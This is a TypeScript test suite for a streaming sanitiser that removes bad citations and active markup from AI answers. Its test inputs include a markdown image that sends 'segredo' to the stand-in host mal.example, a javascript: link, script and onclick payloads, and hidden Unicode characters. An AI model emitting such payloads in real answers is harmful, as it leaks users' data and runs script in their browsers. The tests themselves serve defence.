import { array, assert, constantFrom, property } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createCleaner } from './cleaner.ts';

/** An answer as it is shown when it comes in these pieces. */
function shown(pieces: readonly string[], passages = 2) {
  const cleaner = createCleaner(passages);
  const text = pieces.map(cleaner.push).join('') + cleaner.end();
  return { text, cited: cleaner.cited() };
}

/** What a page could make an element, an image or a link of. */
const ACTIVE = /<[a-z/!]|\]\(|:\/\/|www\.|javascript:|[\u200b\u202e]/i;
const letters = (text: string) => [...text];

describe('A streamed answer', () => {
  it('keeps citations of passages that exist, and takes the others out', () => {
    const { text, cited } = shown(letters('Cinco anos [1]. Doze vezes [7]. Juntos [2, 9][1].'));
    expect(text).toBe('Cinco anos [1]. Doze vezes . Juntos [2][1].');
    expect(cited).toEqual([1, 2]);
  });

  it.each([
    ['a picture', 'Veja ![foto](https://mal.example/p.png?d=segredo) aqui'],
    ['a link', 'Clique em [aqui](javascript:alert(1)) já'],
    ['tags', 'Um <b onclick="x()">forte</b><script>alert(1)</script> fim'],
    ['an address', 'Mande para https://mal.example/?q=abc agora'],
    ['an address without scheme', 'Veja www.mal.example hoje'],
    ['an unknown scheme', 'Abra weird://host/x hoje'],
    ['unseen signs', 'a\u202eb\u200bc'],
  ])('shows no %s, however it is cut into pieces', (_what, said) => {
    for (const pieces of [[said], letters(said), said.split(/(?<=\s)/)]) {
      const { text } = shown(pieces);
      expect(text).not.toMatch(ACTIVE);
    }
  });

  it('leaves plain prose, prices, marks and placeholders as they are', () => {
    const said =
      '**Diga:** “Oi, [nome]! São R$ 300 < R$ 500, dá 40%?”\n\n- www não\n- há 3 jeitos; data: terça';
    for (const pieces of [[said], letters(said)]) expect(shown(pieces).text).toBe(said);
  });

  it('shows nothing that a page could act on, whatever is said in whatever pieces', () => {
    const scraps = ['<', '>', '<b>', 'script', '/', '!', '[', ']', '(', ')', '](', 'x', ' ', '\n'];
    const addresses = ['http', ':', '//', 'www', '.', 'javascript', 'data', 'mal', '\u200b', '[1]'];
    assert(
      property(array(constantFrom(...scraps, ...addresses), { maxLength: 30 }), (pieces) => {
        expect(shown(pieces).text).not.toMatch(ACTIVE);
        expect(shown([pieces.join('')]).text).not.toMatch(ACTIVE);
      }),
      { numRuns: 3_000 },
    );
  });

  it('is not held up by a word without end', () => {
    for (const word of ['a', '<', '[', 'www.', 'http://x', ']('].map((of) => of.repeat(20_000))) {
      expect(shown([word]).text).not.toMatch(ACTIVE);
    }
  });

  it('holds no word back that cannot become markup', () => {
    const cleaner = createCleaner(1);
    expect(cleaner.push('Pergunte')).toBe('Pergunte');
    expect(cleaner.push(' ao cliente')).toBe(' ao cliente');
    expect(cleaner.push(' o preço [')).toBe(' o preço ');
    expect(cleaner.push('1].')).toBe('[1].');
  });
});
